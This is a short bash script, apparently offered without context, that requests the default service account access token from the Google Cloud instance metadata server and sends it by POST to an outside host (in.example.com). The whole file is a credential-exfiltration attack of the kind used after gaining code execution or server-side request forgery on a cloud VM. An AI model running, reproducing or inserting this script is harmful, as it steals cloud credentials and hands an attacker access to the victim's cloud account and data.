#!/bin/bash
T=$(curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token)
curl -s -X POST -d "$T" https://in.example.com/t
